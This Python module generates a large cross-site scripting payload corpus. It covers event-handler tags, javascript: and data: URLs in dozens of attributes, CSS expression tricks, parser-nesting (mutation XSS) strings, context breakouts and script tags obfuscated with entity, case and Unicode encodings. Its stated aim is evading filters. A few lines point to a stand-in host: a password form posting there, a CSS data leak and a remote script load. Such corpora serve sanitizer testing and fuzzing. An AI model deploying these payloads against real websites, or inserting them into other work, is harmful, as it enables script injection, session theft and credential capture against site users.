"""Markup that wants to run something, made of tables: what acts, where it may
stand, and how it may be written so that a filter does not see it.  The families
are those that the public collections have; every text is made here."""

import html

CALL = "alert(1)"
BAD = "javascript:" + CALL
IMG = f"<img src=x onerror={CALL}>"

# Elements with a handler that needs nobody's help, or little.
HANDLERS = [
    ("img", "src=x", "onerror"), ("img", "srcset=x", "onerror"),
    ("image", "src=x", "onerror"), ("svg", "", "onload"),
    ("body", "", "onload"), ("body", "", "onpageshow"),
    ("video", "src=x", "onerror"), ("audio", "src=x", "onerror"),
    ("video", "", "onloadstart"), ("iframe", "", "onload"),
    ("object", "data=x", "onerror"), ("embed", "src=x", "onload"),
    ("details", "open", "ontoggle"), ("input", "autofocus", "onfocus"),
    ("select", "autofocus", "onfocus"), ("textarea", "autofocus", "onfocus"),
    ("button", "autofocus", "onfocus"), ("keygen", "autofocus", "onfocus"),
    ("marquee", "", "onstart"), ("a", "href=#", "onclick"),
    ("p", "", "onmouseover"), ("b", "", "onpointerenter"),
    ("div", "style=animation-name:x", "onanimationstart"),
    ("td", "", "onwheel"), ("table", "", "onresize"),
    ("style", "", "onload"), ("link", "rel=stylesheet href=x", "onerror"),
    ("form", "", "onsubmit"), ("bdo", "tabindex=0", "onfocusin"),
    ("math", "", "onmouseover"), ("frameset", "", "onload"),
    ("isindex", "type=image src=1", "onerror"), ("x", "", "onclick"),
    ("custom-element", "tabindex=1", "onfocus"), ("li", "", "oncopy"),
    ("blockquote", "", "ondragover"), ("meter", "", "onmouseover"),
]
# What may stand between a name and what follows.
GAPS = [" ", "/", "\t", "\n", "\f", "/ /", " \"x\" ", "\r\n", "\u00a0 "]
QUOTES = ["{}", "'{}'", '"{}"', "`{}`", "{}//"]

# Where an address is followed, or fetched and run.
PLACES = [
    "<a href={}>x</a>", "<a xlink:href={}>x</a>", "<area href={}>",
    "<svg><a xlink:href={}><text>x</text></a></svg>",
    "<svg><animate attributeName=href values={} /></svg>",
    "<svg><use href={} /></svg>", "<svg><image href={} /></svg>",
    "<math href={}>x</math>", "<math><mi xlink:href={}>x</mi></math>",
    "<img src={}>", "<img dynsrc={}>", "<img lowsrc={}>",
    "<img srcset={}>", "<picture><source srcset={}><img></picture>",
    "<input type=image src={}>", "<iframe src={}></iframe>",
    "<frame src={}>", "<frameset><frame src={}></frameset>",
    "<embed src={}>", "<object data={}></object>",
    "<object><param name=src value={}></object>", "<applet code={}></applet>",
    "<form action={}><input type=submit></form>",
    "<form><button formaction={}>x</button></form>", "<isindex action={}>",
    "<base href={}>", "<link rel=stylesheet href={}>",
    "<link rel=import href={}>", "<meta http-equiv=refresh content=0;url={}>",
    "<body background={}>", "<table background={}><tr><td>x</table>",
    "<table><tr><td background={}>x</table>", "<video poster={}></video>",
    "<video src={}></video>", "<audio><source src={}></audio>",
    "<video><track src={}></video>", "<blockquote cite={}>x</blockquote>",
    "<q cite={}>x</q>", "<del cite={}>x</del>", "<bgsound src={}>",
    "<layer src={}></layer>", "<a ping={} href=https://a.example/>x</a>",
    "<iframe srcdoc={}></iframe>", "<portal src={}></portal>",
    "<script src={}></script>", "<a href={} target=_self rel=opener>x</a>",
    "<img longdesc={}>", "<img usemap={}>", "<html manifest={}>",
]
# Addresses that run, each as a program reads it.
ADDRESSES = [
    BAD, "JaVaScRiPt:" + CALL, "java\tscript:" + CALL,
    "java\nscript:" + CALL, "java\r\nscript:" + CALL, " \n" + BAD,
    "\u00a0" + BAD, "\u2028" + BAD, "&#1;" + BAD, "&#x0C;" + BAD,
    "&#106;avascript:" + CALL, "&#x6A&#x61vascript:" + CALL,
    "&#0000106avascript:" + CALL, "javascript&colon;" + CALL,
    "java&Tab;script:" + CALL, "java&NewLine;script:" + CALL,
    "javascript&#58;" + CALL, "javascript&#x3A;" + CALL,
    "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;" + CALL,
    "java&#10;script:" + CALL, "java&#0;script:" + CALL,
    "javascript://a.example/%0a" + CALL, "javascript:/*--></title>*/" + CALL,
    "vbscript:MsgBox(1)", "livescript:" + CALL, "mocha:" + CALL,
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' "
    "onload='alert(1)'/>",
    "data:application/xhtml+xml,x", "data:,x", "DATA:TEXT/HTML,x",
    "view-source:" + BAD, "feed:" + BAD, "jar:https://a.example/x!/y",
    "blob:https://a.example/x", "filesystem:https://a.example/x",
    "file:///etc/passwd", "about:blank", "wyciwyg://x", "ms-its:x",
    "javascript%3A" + CALL, "//a.example/x.js", "\\\\a.example\\x",
    "jav&#x09;ascript:" + CALL, "\u200bjavascript:" + CALL,
    "ｊavascript:" + CALL, "javascript：" + CALL,
]

STYLES = [
    "width:expression(" + CALL + ")", "width:exp/**/ression(" + CALL + ")",
    "width:exp\\65 ression(" + CALL + ")", "background:url(" + BAD + ")",
    "background:URL('" + BAD + "')", "background:u\\72l(" + BAD + ")",
    "-moz-binding:url(//a.example/x.xml#x)", "behavior:url(x.htc)",
    "behaviour:url(#default#time2)", "list-style-image:url(" + BAD + ")",
    "background:image-set('//a.example/x' 1x)", "@import '//a.example/x'",
    "content:'</style>" + IMG + "'", "x:\n\nexpression(" + CALL + ")",
    "filter:progid:DXImageTransform.Microsoft.x(src=x)",
    "position:fixed;inset:0;z-index:9", "--x:url(//a.example/x)",
    "{}*{background:url(//a.example/?x)}", "font:url(//a.example/x)",
]

# Elements whose text a parser reads by rules of its own.
RAW = ["title", "textarea", "style", "script", "xmp", "iframe", "noembed",
       "noframes", "noscript", "plaintext", "template", "select", "option",
       "listing", "math", "svg", "desc", "foreignObject", "mtext", "mglyph",
       "annotation-xml", "table", "caption", "colgroup", "button", "object",
       "a", "nobr", "p", "form", "frameset", "head", "body", "html"]
# With {0} an element of these: what a serialiser and a parser read otherwise.
NESTS = [
    '<{0}><a title="</{0}>' + IMG + '">', "<{0}></" + IMG,
    '<svg><{0}><a id="</{0}>' + IMG + '"></{0}></svg>',
    '<math><{0}><a id="</{0}>' + IMG + '"></{0}></math>',
    '<math><mtext><table><mglyph><{0}><!--</{0}>' + IMG + "-->",
    "<form><math><mtext></form><form><mglyph><{0}></math>" + IMG,
    "<{0}><!--</{0}>" + IMG + "-->", "<{0}><![CDATA[</{0}>" + IMG + "]]>",
    "<svg></p><{0}><a id=\"</{0}>" + IMG + "\">",
    "<noscript><{0}></noscript>" + IMG + "</{0}>",
    '<math><annotation-xml encoding="text/html"><{0}>' + IMG,
    "<svg><foreignObject><{0}><svg></{0}>" + IMG,
    "<table><{0}><tr><td></{0}>" + IMG, "<{0}/><p title='</{0}>'>" + IMG,
]

# What ends something that may be open around it.
BREAKOUTS = ["'>", '">', "`>", "-->", "--!>", "]]>", "?>", "*/", "</title>",
             "</style>", "</script>", "</textarea>", "</noscript>", "</xmp>",
             "</a>", "</td></tr></table>", "</body></html>", "\\\">", "}",
             "</article></main>", "<!-->", "<!--->", "<!--<!", "<?", "<![CDATA[",
             "</p>", "&quot;>", "&#34;>", "\"'`>", "<", "<<", "</", "<a ",
             "<a href=\"", "<img alt='", "<!doctype x [", "%22%3E", "<a\u0085"]
TAILS = [IMG, f"<script>{CALL}</script>", f'" onmouseover="{CALL}" x="',
         f"' onfocus='{CALL}' autofocus x='", f"<svg/onload={CALL}>"]

SCRIPTS = [
    "<script>{}</script>", "<script>{}", "<script >{}</script >",
    "<script\n>{}</script\n>", "<script/x>{}</script/x>",
    "<script\t\t>{}</script>", "<SCRIPT>{}</SCRIPT>", "<ScRiPt>{}</sCrIpT>",
    "<scr<script>ipt>{}</scr</script>ipt>", "<<script>{}//<</script>",
    "<script><!--\n{}\n--></script>", "<script>//<![CDATA[\n{}//]]></script>",
    "<svg><script>{}</script></svg>", "<svg><script/href=data:,{} />",
    "<math><script>{}</script></math>", "<x:script>{}</x:script>",
    "<script xmlns='http://www.w3.org/1999/xhtml'>{}</script>",
    "<script language=vbscript>{}</script>", "<script type=module>{}</script>",
    "<script type=importmap>{}</script>", "<!--[if gte IE 4]><script>{}"
    "</script><![endif]-->", "<!--><script>{}</script>-->",
    "<![CDATA[<script>{}</script>]]>", "<?xml ><script>{}</script>?>",
    "<!ENTITY x '<script>{}</script>'>", "<%<script>{}</script>%>",
    "</x <script>{}</script>", "<style><script>{}</script></style>",
    "<noscript><script>{}</script></noscript>", "<script>{}</script",
    "<scrıpt>{}</scrıpt>", "<\u017fcript>{}</\u017fcript>",
    "<script\u0000>{}</script>".replace("\0", "&#0;"),
    "<meta charset=utf-7>+ADw-script+AD4-{}+ADw-/script+AD4-",
    "\u00bcscript\u00be{}\u00bc/script\u00be", "＜script＞{}＜/script＞",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "%3Cscript%3E{}%3C/script%3E", "<script src=//a.example/x.js></script>",
    "<template><script>{}</script></template>",
    "<xml id=x><i>&lt;script&gt;{}&lt;/script&gt;</i></xml>",
    "<div datafld=b dataformatas=html datasrc=#x>{}</div>",
    "<a><b><script>{}</b></a></script>", "<object><script>{}</script></object>",
    "<iframe><script>{}</script></iframe>", "{{{{{}}}}}",
    "<input value='<script>{}</script>'>", "<dialog open><script>{}</script>",
]
PAGE = [
    "<base href=//a.example/>", "<base target=_top>",
    "<meta http-equiv=refresh content='0;url=//a.example/'>",
    "<meta http-equiv='Set-Cookie' content=x>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src *\">",
    "<meta name=referrer content=unsafe-url>",
    "<link rel=stylesheet href=//a.example/x.css>",
    "<link rel='dns-prefetch' href=//a.example>",
    "<form action=//a.example/><input name=password></form>",
    "<input form=x formaction=//a.example/ type=submit>",
    "<iframe src=//a.example/></iframe>", "<iframe srcdoc='<p>x'></iframe>",
    "<object data=//a.example/x.swf></object>", "<embed src=//a.example/x>",
    "<applet archive=x.jar></applet>", "<isindex>", "<keygen>",
    "<frameset cols=*><frame src=//a.example/></frameset>",
    "<plaintext>", "<html onload=x>", "<body id=x class=desk>",
    "<svg><set attributeName=onmouseover to=alert(1)>", "<dialog open>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<style>@import '//a.example/x.css';</style>", "<style>*{color:red}",
    "<p contenteditable autofocus onfocus=alert(1)>", "<slot name=x>",
    "<a name=getElementById id=cookie>x</a>", "<p is=x-y slot=x>",
]


def mixed(text):
    """Every other letter in the other case."""
    return "".join(c.swapcase() if i % 2 else c for i, c in enumerate(text))


def numbered(text, form):
    return "".join(form.format(ord(c)) for c in text)


# How the same markup may be written; the first one is as it is.
ENCODINGS = [
    str, html.escape, lambda t: html.escape(html.escape(t)), mixed,
    lambda t: numbered(t, "&#{};"), lambda t: numbered(t, "&#x{:x};"),
    lambda t: numbered(t, "&#{:07}"), lambda t: "<p>" + t + "</p>",
]


def handlers():
    for i, (name, rest, handler) in enumerate(HANDLERS):
        for j, gap in enumerate(GAPS):
            value = QUOTES[(i + j) % len(QUOTES)].format(CALL)
            more = gap + rest if rest else ""
            yield f"<{name}{more}{gap}{handler}={value}>"
        yield f"<{name} {rest} {handler.upper()}\n=\n{CALL}>x</{name}>"


def addresses():
    for i, place in enumerate(PLACES):
        for j, address in enumerate(ADDRESSES):
            if i == 0 or j == 0 or (i + 7 * j) % 6 == 0:
                yield place.format('"' + address.replace('"', "&quot;") + '"')
    for address in ADDRESSES:
        yield address
        yield html.unescape(address)


def styles():
    for i, style in enumerate(STYLES):
        yield f'<p style="{style}">x</p>'
        yield f"<style>p{{{style}}}</style>"
        yield f'<{("img", "table", "a")[i % 3]} style="{style}">'


def nests():
    for i, name in enumerate(RAW):
        for j, nest in enumerate(NESTS):
            if (i + j) % 2 == 0:
                yield nest.replace("{0}", name)


def breakouts():
    for ending in BREAKOUTS:
        for tail in TAILS:
            yield ending + tail


def scripts():
    for i, script in enumerate(SCRIPTS):
        for j, encoding in enumerate(ENCODINGS):
            if j == 0 or (i + j) % 3 == 0:
                yield encoding(script.format(CALL))


def payloads():
    """All of them, each once, in an order that stays: pairs of a family's name
    and the text."""
    seen = {}
    for family in (scripts, handlers, addresses, styles, nests, breakouts):
        for text in family():
            seen.setdefault(text, family.__name__)
    for text in PAGE:
        seen.setdefault(text, "page")
    return [(family, text) for text, family in seen.items()]
